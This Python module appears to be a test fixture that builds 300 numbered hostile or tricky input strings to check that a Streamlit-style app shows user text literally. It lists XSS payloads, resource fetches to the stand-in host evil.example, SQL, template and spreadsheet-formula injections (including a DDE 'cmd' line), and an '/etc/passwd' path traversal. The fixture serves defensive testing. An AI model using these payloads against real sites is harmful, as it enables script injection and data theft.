"""300 texts that a person could write and that must be shown as they stand, whatever they mean to a browser.

Each carries a number, so that it is found again on the page. A script that runs sets `window.vpHit`; whatever is
fetched is fetched from `evil.example`, which does not exist (RFC 2606).
"""

from __future__ import annotations

from collections.abc import Iterator

HOST = "evil.example"
RUN = "window.vpHit=1"

TAGS = (
    "img src=x onerror", "svg onload", "body onload", "video src=x onerror", "audio src=x onerror", "iframe onload",
    "object data=x onerror", "details open ontoggle", "marquee onstart", "input autofocus onfocus",
    "select autofocus onfocus", "textarea autofocus onfocus", "button autofocus onfocus", "a href=x onmouseover",
    "form onsubmit", "style onload", "link rel=stylesheet href=x onerror", "math onclick",
    "p style=animation:x onanimationstart",
    "embed src=x onload",
)  # fmt: skip
FETCHING = (
    "<img src=https://{host}/{n}.png>",
    "<img srcset='https://{host}/{n}.png 2x'>",
    "<picture><source srcset=//{host}/{n}></picture>",
    "<video poster=https://{host}/{n}.png></video>",
    "<audio src=https://{host}/{n}.mp3 autoplay></audio>",
    "<iframe src=https://{host}/{n}></iframe>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<object data=https://{host}/{n}></object>",
    "<embed src=https://{host}/{n}>",
    "<link rel=stylesheet href=https://{host}/{n}.css>",
    "<link rel=prefetch href=//{host}/{n}>",
    "<style>@import 'https://{host}/{n}.css'</style>",
    "<p style='background:url(https://{host}/{n}.png)'>x</p>",
    "<svg><image href=https://{host}/{n}.png /></svg>",
    "<svg><use href='https://{host}/{n}.svg#a'/></svg>",
    "<meta http-equiv=refresh content='0;url=https://{host}/{n}'>",
    "<base href=https://{host}/{n}/>",
    "<form action=https://{host}/{n}><button>OK</button></form>",
    "<script src=https://{host}/{n}.js></script>",
    "<script type=module>import 'https://{host}/{n}.js'</script>",
    "<input type=image src=https://{host}/{n}.png>",
    "<table background=https://{host}/{n}.png><tr><td>x</table>",
)
BREAKING_OUT = (
    "\"><img src=x onerror={run}>", "'><script>{run}</script>", "</p></div><svg onload={run}>",
    "</textarea><script>{run}</script>", "</title><script>{run}</script>", "</style><img src=x onerror={run}>",
    "--><img src=x onerror={run}>", "]]><script>{run}</script>", "</script><script>{run}</script>",
    "\" autofocus onfocus={run} x=\"", "' onmouseover={run} '", "`><img src=x onerror={run}>",
    "</summary><svg onload={run}>",
    "</option></select><img src=x onerror={run}>", "\\\"><script>{run}</script>", "<<script>{run}//<</script>",
    "<scr<script>ipt>{run}</script>", "<img \"\"\"><script>{run}</script>\">",
    "<math><mtext></p><script>{run}</script>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
)  # fmt: skip
ENCODED = (
    "&lt;script&gt;{run}&lt;/script&gt;", "&#60;img src=x onerror={run}&#62;", "&#x3C;svg onload={run}&#x3E;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "%3Cscript%3E{run}%3C/script%3E", "&quot;&gt;&lt;b&gt;",
    "&nbsp;&amp;&copy;&auml;", "＜script＞{run}＜/script＞", "\\x3cscript\\x3e", "&ltimg src=x&gt",
)  # fmt: skip
LINKS = (
    "[x](https://{host}/{n})", "[x](javascript:{run})", "[x](JaVaScRiPt:{run})", "[x](java\tscript:{run})",
    "[x](data:text/html,<script>{run}</script>)", "[x](vbscript:x)", "[x](//{host}/{n} 'title')",
    "[x][1] [1]: //{host}/{n}",
    "<https://{host}/{n}>", "<javascript:{run}>", "https://{host}/{n}", "http://{host}:8080/{n}?a=b&c=d#e",
    "www.{host}/{n}",
    "mailto:x{n}@{host}", "x{n}@{host}", "ftp://{host}/{n}", "<a href='https://{host}/{n}'>x</a>",
    "<a href=javascript:{run}>x</a>", "<a href=\"data:text/html,x\">x</a>",
    "[![x](https://{host}/{n}.png)](https://{host})",
)  # fmt: skip
PICTURES = (
    "![](https://{host}/{n}.png)", "![x](//{host}/{n}.gif)", "![x](<https://{host}/{n}.png>)", "![x][p{n}]",
    "[p{n}]: https://{host}/{n}.png", "![x](https://{host}/{n}.png \"t\")",
    "![x](data:image/svg+xml,<svg onload={run}>)",
    "![x]( https://{host}/{n}.png )", "!\\[x](https://{host}/{n}.png)", "!![x](https://{host}/{n}.png)",
)  # fmt: skip
COLOURS = ("red", "orange", "yellow", "green", "blue", "violet", "gray", "grey", "rainbow", "primary")
DIRECTIVES = (
    *(f":{colour}[a{{n}}]" for colour in COLOURS),
    *(f":{colour}-background[a{{n}}]" for colour in COLOURS),
    *(f":{colour}-badge[a{{n}}]" for colour in COLOURS),
    ":small[a{n}]", ":material/delete:", ":material/home: a{n}", ":streamlit:", ":smile:", ":+1: a{n}",
    ":heart: a{n}",
    ":shortcut[Ctrl+{n}]", ":red[![x](https://{host}/{n}.png)]", ":blue[:smile: a{n}]",
)  # fmt: skip
MARKDOWN = (
    "# Otsikko {n}", "###### Otsikko {n}", "**lihava {n}**", "__lihava {n}__", "*kursiivi {n}*", "_kursiivi {n}_",
    "~~yli {n}~~", "`koodi {n}`", "``` koodi {n} ```", "> lainaus {n}", "- kohta {n}", "* kohta {n}", "+ kohta {n}",
    "1. kohta {n}", "- [ ] tehtävä {n}", "| a | b | {n} |", "---", "***", "a{n}[^1]", "\\*a{n}\\*", "a{n}\\",
    "a_{n}_b",
    "<!-- huomautus {n} -->", "a <- b -> c {n}", "(c) (tm) -- ... {n}", "=={n}==", "^{n}^ ~{n}~", "<b>{n}</b>",
    "<br>{n}", "<hr>{n}",
)  # fmt: skip
FORMULAS = (
    "$x^{n}$", "$$\\int_0^{n} x dx$$", "\\({n}+x\\)", "\\[{n}+x\\]", "$\\href{{https://{host}/{n}}}{{x}}$",
    "$\\includegraphics{{https://{host}/{n}.png}}$", "$\\text{{{n}}}$ 5 $ ja 6 $", "<math><mi>x{n}</mi></math>",
    "<math href='https://{host}/{n}'>x</math>", "$\\color{{red}}{n}$",
)  # fmt: skip
TEMPLATES = (
    "{{{{7*{n}}}}}", "${{7*{n}}}", "{{n}} {n}", "{{title}} {n}", "{{0}} {n}", "%s %d {n}", "%(n)s {n}",
    "<%= {n} %>", "{{% x %}} {n}",
    "#{{{n}}}", "'; DROP TABLE decision; -- {n}", "=HYPERLINK(\"https://{host}/{n}\")", "@SUM(A1:A{n})",
    "+cmd|' /C calc'!A{n}",
    "../../etc/passwd {n}", "C:\\x\\{n}", "\\n\\t\\0 {n}", "null {n}", "NaN {n}", "undefined {n}",
)  # fmt: skip
CHARACTERS = (
    "kello\x07 {n}", "esc\x1b[31m {n}", "a\u202egnirts {n}\u202c", "\u2066eristys {n}\u2069", "nolla\u200bleveys {n}",
    "\ufeffalku {n}", "liitos\u200d {n}", "sidottu\u00a0väli {n}", "pehmeä\u00adtavu {n}", "z̷̧̛a̸̡l̵g̶o {n}",
    "👨‍👩‍👧 {n}",
    "🇫🇮 {n}", "مرحبا {n}", "שלום {n}", "漢字 {n}", "İstanbul ı {n}", "ǅ ß ﬁ {n}", "\u2028rivi {n}",
    "x\u0301\u0302 {n}", "ÄÖ äö {n}",
)  # fmt: skip


def _forms() -> Iterator[str]:
    for tag in TAGS:
        yield f"<{tag}={RUN} data-n={{n}}>"
        yield f"<{tag.upper()}='{RUN}' data-n={{n}}//>"
    for group in (
        FETCHING, BREAKING_OUT, ENCODED, LINKS, PICTURES, DIRECTIVES, MARKDOWN, FORMULAS, TEMPLATES, CHARACTERS,
    ):  # fmt: skip
        yield from group
    yield from ("Pitkäsana" * words + "{n}" for words in (3, 9))
    for wrapping in (":red[{}]", "**{}**", "`{}`", "> {}"):  # markup inside Streamlit's and Markdown's own
        yield from (wrapping.replace("{}", form) for form in (*FETCHING[:8], *PICTURES[:8]))


def _numbered(form: str, n: int) -> str:
    """The form with its number and names in their places."""
    text = form.format(host=HOST, run=RUN, n=n) if "{" in form else form
    return text if str(n) in text else f"{text} {n}"


PAYLOADS = tuple(_numbered(form, n) for n, form in zip(range(1000, 1300), _forms(), strict=False))
